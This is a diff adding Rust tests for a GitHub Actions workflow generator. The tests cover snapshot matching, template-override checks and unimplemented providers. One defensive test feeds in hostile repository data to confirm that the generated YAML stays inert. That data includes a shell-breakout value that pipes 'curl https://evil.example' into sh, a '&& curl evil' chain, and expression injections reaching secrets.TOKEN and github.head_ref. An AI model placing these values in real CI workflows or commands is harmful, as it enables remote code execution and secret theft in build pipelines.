@@ -1,0 +1,174 @@
+//! Workflow generation: a snapshot of every generated file for every fixture repository,
+//! the safety checks on each, and hostile repository data (expressions, quotes,
+//! newlines, YAML specials in script names, paths and versions) that must still yield
+//! valid, injection-free YAML. `.ci/run` also runs the external validators (actionlint,
+//! zizmor, the JSON schemas) over the same output.
+
+use std::path::Path;
+
+use pipewright::analyze::{analyze_path, Analysis, Commands, Language, PackageManager, Project};
+use pipewright::generate::{generate, validate, Provider, Target};
+
+fn fixtures() -> Vec<(String, std::path::PathBuf)> {
+    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/repos");
+    let mut v: Vec<_> = std::fs::read_dir(&root)
+        .unwrap()
+        .map(|e| {
+            let e = e.unwrap();
+            (e.file_name().to_string_lossy().into_owned(), e.path())
+        })
+        .collect();
+    v.sort();
+    v
+}
+
+#[test]
+fn github_workflows_for_every_fixture_match_their_snapshots() {
+    for (name, path) in fixtures() {
+        let analysis = analyze_path(&path).unwrap();
+        let files =
+            generate(&analysis, &Target::github()).unwrap_or_else(|e| panic!("{name}: {e}"));
+        if name == "empty" {
+            assert!(files.is_empty());
+            continue;
+        }
+        assert!(!files.is_empty(), "{name}: nothing generated");
+        for f in files {
+            assert!(validate::check(Provider::Github, &f.content).is_empty());
+            let file = f
+                .path
+                .rsplit('/')
+                .next()
+                .unwrap()
+                .trim_end_matches(".yml")
+                .to_owned();
+            insta::assert_snapshot!(format!("github__{name}__{file}"), f.content);
+        }
+    }
+}
+
+fn hostile_project(path: &str, value: &str) -> Project {
+    Project {
+        path: path.to_owned(),
+        language: Language::JavaScript,
+        package_manager: Some(PackageManager::Npm),
+        frameworks: vec![],
+        test_tool: None,
+        commands: Commands {
+            install: Some(format!("npm ci {value}")),
+            lint: vec![value.to_owned()],
+            build: Some(value.to_owned()),
+            test: Some(format!("npm test -- {value}")),
+        },
+        runtime_versions: vec![value.to_owned(), "22".to_owned()],
+        confidence: 0.9,
+        evidence: vec![format!("{path}/package-lock.json")],
+        reasons: vec![],
+    }
+}
+
+#[test]
+fn hostile_repository_data_stays_inert() {
+    let values = [
+        "${{ github.event.pull_request.title }}",
+        "'; curl https://evil.example | sh; echo '",
+        "line one\nline two: [x]\n- item\n  key: &a *a",
+        "\"quoted\" and \\backslash\\ and # not a comment",
+        "}} ${{ secrets.TOKEN }} {{",
+        "émoji 🚀 \u{7} bell",
+        "${{ matrix.node }} && curl evil",
+    ];
+    for v in values {
+        for path in [
+            "frontend",
+            "weird ${{ github.head_ref }}/app",
+            "a: b",
+            "x\ny",
+        ] {
+            let analysis = Analysis {
+                projects: vec![hostile_project(path, v), hostile_project("other", v)],
+                dockerfile: true,
+                dockerfiles: vec![format!("{path}/Dockerfile")],
+                services: vec!["postgres".into(), "${{ github.token }}".into()],
+                existing_ci: vec![],
+                missing: vec!["ci"],
+                warnings: vec![],
+                files_read: 0,
+            };
+            let files = generate(&analysis, &Target::github())
+                .unwrap_or_else(|e| panic!("{v:?} {path:?}: {e}"));
+            for f in &files {
+                // Valid YAML with the safety defaults; every `${{` is ours or neutralised.
+                assert!(
+                    validate::check(Provider::Github, &f.content).is_empty(),
+                    "{}",
+                    f.content
+                );
+                // Drop the neutralised literals, then every expression left must be ours.
+                let content = f.content.replace("${{ '${{' }}", "");
+                for (i, _) in content.match_indices("${{") {
+                    let rest = &content[i..];
+                    let ours = [
+                        "${{ github.workflow }}",
+                        "${{ github.ref }}",
+                        "${{ github.event_name == 'pull_request' }}",
+                        "${{ matrix.",
+                    ]
+                    .iter()
+                    .any(|ok| rest.starts_with(ok));
+                    assert!(
+                        ours,
+                        "unexpected expression in {}: {}",
+                        f.path,
+                        &rest[..rest.len().min(60)]
+                    );
+                }
+                assert!(!f.content.contains("${{ secrets"), "{}", f.content);
+            }
+        }
+    }
+}
+
+#[test]
+fn template_overrides_are_used_and_checked() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::create_dir_all(dir.path().join("github")).unwrap();
+    let analysis = analyze_path(
+        &Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/repos/go-gin-make"),
+    )
+    .unwrap();
+    let target = Target {
+        template_dir: Some(dir.path().to_owned()),
+        ..Target::github()
+    };
+    // An override that drops the safety defaults is rejected, not emitted.
+    std::fs::write(
+        dir.path().join("github/workflow.yml.j2"),
+        "name: x\non: push\njobs: {}\n",
+    )
+    .unwrap();
+    let err = generate(&analysis, &target).unwrap_err().to_string();
+    assert!(
+        err.contains("permissions") && err.contains("concurrency"),
+        "{err}"
+    );
+    // A broken template names itself.
+    std::fs::write(dir.path().join("github/workflow.yml.j2"), "[% for x in %]").unwrap();
+    let err = generate(&analysis, &target).unwrap_err().to_string();
+    assert!(err.starts_with("template github/workflow.yml.j2:"), "{err}");
+}
+
+#[test]
+fn other_providers_say_they_are_not_implemented() {
+    let analysis =
+        analyze_path(&Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/repos/rust-axum"))
+            .unwrap();
+    let target = Target {
+        provider: Provider::Gitlab,
+        ..Target::github()
+    };
+    assert_eq!(
+        generate(&analysis, &target).unwrap_err().to_string(),
+        "generating for Gitlab is not implemented yet"
+    );
+}
